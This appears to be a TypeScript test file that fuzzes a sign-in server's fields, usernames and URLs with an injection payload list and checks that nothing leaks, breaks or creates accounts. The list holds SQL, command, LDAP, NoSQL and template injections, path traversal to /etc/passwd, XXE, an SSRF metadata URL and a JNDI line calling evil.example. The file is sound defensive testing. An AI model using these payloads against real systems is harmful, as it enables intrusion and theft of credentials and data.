// Values that are code to somebody else: databases, shells, templates, directories. To us they are texts nobody has registered.
import { globSync, readFileSync } from 'node:fs';

import { logOf } from '#tests/support/log-file';
import { StoreFile } from '#tests/support/store-file';
import { talk } from '#tests/support/talk';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { secretComparisons } from '../../tools/structure/secret-comparisons.ts';
import { parseSource, type Rule } from '../../tools/structure/source.ts';
import { sqlText } from '../../tools/structure/sql-text.ts';
import { aStranger, invite, type Somebody, startWorld, type World } from '../laws/somebody.ts';
import { isLegal, type Speaker, SPEAKERS } from '../laws/speakers.ts';

const SHIPPED = globSync('src/**/*.ts').filter((path) => !/\.(?:test|contract)\.ts$/.test(path));

const found = (rule: Rule): readonly string[] =>
  SHIPPED.flatMap((path) => rule(parseSource(path.replaceAll('\\', '/'), readFileSync(path, 'utf8')))).map(
    ({ path, line }) => `${path}:${line}`,
  );

describe('the source', () => {
  it('R-81 puts no SQL together from text', () => {
    expect(SHIPPED.length).toBeGreaterThan(100);
    expect(found(sqlText)).toEqual([]);
  });

  it('R-19 compares secrets in one place only', () => {
    expect(found(secretComparisons)).toEqual([]);
  });
});

/** Made of what breaks out of a text, what is run there, and what hides the rest. */
const PAYLOADS: readonly string[] = [
  ...["'", '"', '`', "')", '")', "'))", '\\', "\\'", '%27', '＇', 'ʼ', "''"].flatMap((quote) =>
    [
      ' or 1=1',
      ' or 1=1 -- ',
      ' union select * from accounts',
      ';drop table accounts;',
      '||(select phc from credentials)||',
      ' /*',
      ' and sleep(9)#',
    ].map((code) => quote + code),
  ),
  '%',
  '_',
  '%%',
  '_%',
  '*',
  '?',
  '[a-z]*',
  '.*',
  '^.*$',
  '(a+)+$',
  '(?=.*)',
  'x%',
  '\\%',
  'admin',
  'admin--',
  'root',
  'null',
  'NULL',
  'undefined',
  'NaN',
  'true',
  '0',
  '-1',
  '1e309',
  '0x1',
  '[]',
  '{}',
  '[object Object]',
  '{"$gt":""}',
  '{"$where":"1"}',
  '$ne',
  '*)(uid=*',
  '*)(|(uid=*',
  '(cn=*)',
  'x)(objectClass=*',
  '<x/>',
  ']]>',
  '<!ENTITY x SYSTEM "file:///etc/passwd">',
  '${7*7}',
  '{{7*7}}',
  '#{7*7}',
  '<%= 7*7 %>',
  '${jndi:ldap://evil.example/a}',
  '%s%s%n',
  '%x%x',
  '$(id)',
  '`id`',
  '|id',
  ';id',
  '&& id',
  '\n/bin/id',
  '../../../etc/passwd',
  '..\\..\\windows',
  'file:///etc/passwd',
  'http://169.254.169.254/',
  '//evil.example',
  'javascript:alert(1)',
  '<script>alert(1)</script>',
  'a\r\nSet-Cookie: x=1',
  'a\nX: y',
  '=1+1',
  '@SUM(1)',
  '+1',
  '-1+1',
  '\t=1',
  'a'.repeat(255),
  '\'"<>&;|`$(){}[]%*?~!@#^=+\\/',
];

let world: World;
let person: Somebody;
beforeAll(async () => {
  world = await startWorld({ settings: { 'kdf.waitMs': 30_000 } });
  person = await invite(world);
});
afterAll(() => world.server.close());

const fieldsOf = (speaker: Speaker): readonly string[] => Object.keys(speaker.fields(person, world.app));

async function inTurns<T>(values: readonly T[], act: (value: T) => Promise<void>): Promise<void> {
  const queue = [...values];
  const next = async (): Promise<void> => {
    for (let value = queue.pop(); value !== undefined; value = queue.pop()) await act(value);
  };
  await Promise.all(Array.from({ length: 8 }, next));
}

describe.each(SPEAKERS)('code in the fields of $name', (speaker) => {
  it('R-81 is nobody’s name, nobody’s password and no command', async () => {
    const before = {
      accounts: new StoreFile(world.server).count('accounts'),
      sessions: new StoreFile(world.server).count('sessions'),
    };
    const anomalies: unknown[] = [];
    const attacks = PAYLOADS.flatMap((payload) => [...fieldsOf(speaker), 'extra'].map((field) => ({ payload, field })));

    await inTurns(attacks, async ({ payload, field }) => {
      // Of a stranger, so that no lock stands before what is tried.
      const heard = await world.signIn(speaker, aStranger(), { fields: { [field]: payload } });
      const isOrdinary = isLegal(speaker, heard) && heard.status < 500 && speaker.tokenIn(heard) === undefined;
      if (!isOrdinary) anomalies.push({ payload, field, heard });
    });

    expect(anomalies).toEqual([]);
    expect({
      accounts: new StoreFile(world.server).count('accounts'),
      sessions: new StoreFile(world.server).count('sessions'),
    }).toEqual(before);
    expect(await world.server.house.storage.integrity()).toEqual([]);
    expect(logOf(world.server).filter(({ level }) => Number(level) >= 50)).toEqual([]);
    expect(speaker.tokenIn(await world.signIn(speaker, person))).toBeDefined();
  });
});

describe('a name that is code', () => {
  it.each(["o'brien", 'x"; drop table accounts; --', '%', '_', '{{7*7}}', '<script>'])(
    'R-81 is a name like any other once it is registered: %s',
    async (username) => {
      const { password, ...somebody } = await invite(world, { username });
      const nobase = SPEAKERS.find(({ dialect }) => dialect === 'nobase') as Speaker;

      const heard = await world.signIn(nobase, { ...somebody, password });

      expect(JSON.parse(heard.body)).toMatchObject({ code: 200, data: { username } });
    },
  );
});

describe('code in a URL', () => {
  it.each(PAYLOADS.slice(0, 60))('R-81 leads nowhere: %s', async (payload) => {
    const heard = await talk(world.server.port, {
      method: 'GET',
      path: `/api/user/${encodeURIComponent(payload)}?s=${encodeURIComponent(payload)}`,
    });

    expect([isLegal({ dialect: 'nobase' }, heard), JSON.parse(heard.body)]).toMatchObject([true, { code: 400 }]);
  });
});
